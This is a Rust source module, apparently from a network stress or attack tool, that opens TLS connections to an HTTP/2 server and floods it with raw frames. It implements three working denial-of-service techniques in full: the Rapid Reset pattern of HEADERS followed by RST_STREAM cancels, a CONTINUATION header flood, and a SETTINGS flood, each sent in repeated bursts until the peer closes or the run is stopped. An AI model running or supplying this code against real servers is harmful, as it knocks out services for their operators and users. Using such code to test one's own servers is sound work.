//! Frames of HTTP/2 (RFC 9113) that cost the other side more than they cost here.

use std::net::IpAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use rustls::ClientConfig;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::time::timeout;

use super::{Attack, PATIENCE, Tally, Target};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `GET / HTTP/2` of host `a`, by HPACK's static table (RFC 7541, A).
const GET: &[u8] = &[0x82, 0x84, 0x87, 0x41, 0x01, b'a'];
/// A header field without indexing: `x: <100 times a>`.
fn field() -> Vec<u8> {
    let mut field = vec![0x00, 0x01, b'x', 100];
    field.extend([b'a'; 100]);
    field
}

/// One connection, until the other side ends it; each burst is a try.
pub(super) async fn flood(
    attack: Attack,
    target: &Target,
    source: IpAddr,
    config: &Arc<ClientConfig>,
    tally: &mut Tally,
    stop: &AtomicBool,
) {
    let Some(stream) = target.handshake(source, config).await else {
        return tally.add("refused");
    };
    let (mut reader, mut writer) = tokio::io::split(stream);
    // Who does not read is stopped by TCP, which is not what is tried here.
    let heard = tokio::spawn(async move {
        let mut answer = vec![0; 16_384];
        while matches!(reader.read(&mut answer).await, Ok(1..)) {}
    });
    let mut opening = PREFACE.to_vec();
    frame(&mut opening, SETTINGS, 0, 0, &[]);
    if attack == Attack::Continuation {
        frame(&mut opening, HEADERS, END_STREAM, 1, GET);
    }
    let mut stream_id = 1;
    let mut ended = writer.write_all(&opening).await.is_err();
    while !ended && !stop.load(Ordering::Relaxed) {
        let burst = burst(attack, &mut stream_id);
        let sent = timeout(PATIENCE, async {
            writer.write_all(&burst).await?;
            writer.flush().await
        });
        ended = !matches!(sent.await, Ok(Ok(()))) || heard.is_finished();
        tally.add(if ended { "closed" } else { "kept" });
        tokio::task::yield_now().await;
    }
    heard.abort();
}

/// A hundred frames, or pairs of them.
fn burst(attack: Attack, stream_id: &mut u32) -> Vec<u8> {
    let mut burst = Vec::new();
    for _ in 0..100 {
        match attack {
            Attack::RapidReset => {
                frame(
                    &mut burst,
                    HEADERS,
                    END_HEADERS | END_STREAM,
                    *stream_id,
                    GET,
                );
                // CANCEL.
                frame(&mut burst, RST_STREAM, 0, *stream_id, &[0, 0, 0, 8]);
                *stream_id += 2;
            }
            Attack::Continuation => frame(&mut burst, CONTINUATION, 0, 1, &field()),
            _ => frame(&mut burst, SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]),
        }
    }
    burst
}

fn frame(to: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).expect("small").to_be_bytes();
    to.extend(&length[1..]);
    to.extend([kind, flags]);
    to.extend(stream.to_be_bytes());
    to.extend(payload);
}
